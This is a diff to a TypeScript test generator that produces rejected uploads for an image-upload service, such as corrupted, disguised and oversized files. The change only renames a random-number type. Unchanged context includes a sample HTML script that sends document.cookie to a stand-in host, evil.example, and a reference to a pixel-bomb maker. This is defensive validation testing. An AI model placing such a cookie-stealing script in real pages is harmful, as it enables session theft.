@@ -1,7 +1,7 @@
 // Uploads that nobody should send: broken, disguised, oversized, and forms that are none. The same for the same seed.
 import sharp from 'sharp';
 import { PHOTO_MAX_BYTES } from '#contract/jobs.ts';
-import type { Random } from '#portrait/steps/noise.ts';
+import type { RandomNumberFunction } from '#portrait/steps/noise.ts';
 import { jpegOfManyScans } from './many-scans.ts';
 import { createPixelBomb } from './pixel-bomb.ts';
 
@@ -10,7 +10,7 @@ type BadUpload = { kind: string; contentType: string; body: Buffer };
 
 type File = { bytes: Uint8Array; name?: string; type?: string };
 type Ingredients = {
-  random: Random;
+  random: RandomNumberFunction;
   /** A good photo, in both formats. */
   png: Buffer;
   jpeg: Buffer;
@@ -23,7 +23,7 @@ const CONTENT_TYPE = `multipart/form-data; boundary=${BOUNDARY}`;
 
 /** Endless uploads, kind after kind; `good` is a photo that would be accepted, `fields` the text fields of its form. */
 export async function* generateBadUploads(
-  random: Random,
+  random: RandomNumberFunction,
   { good, fields }: { good: Uint8Array; fields: Record<string, string> },
 ): AsyncGenerator<BadUpload, never> {
   const png = Buffer.from(good);
@@ -39,8 +39,8 @@ export async function* generateBadUploads(
 /** How many kinds there are. */
 export const countBadUploadKinds = (): number => Object.keys(makers).length;
 
-const pick = <T>(random: Random, of: readonly T[]): T => of[Math.floor(random() * of.length)];
-const below = (random: Random, limit: number) => Math.floor(random() * limit);
+const pick = <T>(random: RandomNumberFunction, of: readonly T[]): T => of[Math.floor(random() * of.length)];
+const below = (random: RandomNumberFunction, limit: number) => Math.floor(random() * limit);
 const text = (words: string): Buffer => Buffer.from(words);
 
 const SCRIPT = '<html><script>fetch("//evil.example/"+document.cookie)</script></html>';
@@ -114,7 +114,7 @@ const makers: Record<string, Maker> = {
   'form that is JSON': ({ fields }) => ({ ...whole(text(JSON.stringify(fields))), contentType: 'application/json' }),
 };
 
-function flipped(random: Random, bytes: Buffer): Buffer {
+function flipped(random: RandomNumberFunction, bytes: Buffer): Buffer {
   const copy = Buffer.from(bytes);
   for (let flips = 1 + below(random, 40); flips > 0; flips -= 1) {
     copy[8 + below(random, copy.length - 8)] ^= 1 << below(random, 8);
@@ -122,11 +122,12 @@ function flipped(random: Random, bytes: Buffer): Buffer {
   return copy;
 }
 
-const noise = (random: Random, length: number): Buffer => Buffer.from(Array.from({ length }, () => below(random, 256)));
+const noise = (random: RandomNumberFunction, length: number): Buffer =>
+  Buffer.from(Array.from({ length }, () => below(random, 256)));
 const padded = (bytes: Buffer, length: number): Buffer => Buffer.concat([bytes, Buffer.alloc(length - bytes.length)]);
 const small = (png: Buffer) => sharp(png).resize(200);
 
-function plain(side: number, random: Random): Promise<Buffer> {
+function plain(side: number, random: RandomNumberFunction): Promise<Buffer> {
   const background = { r: below(random, 256), g: below(random, 256), b: below(random, 256) };
   return sharp({ create: { width: side, height: side, channels: 3, background } })
     .png()
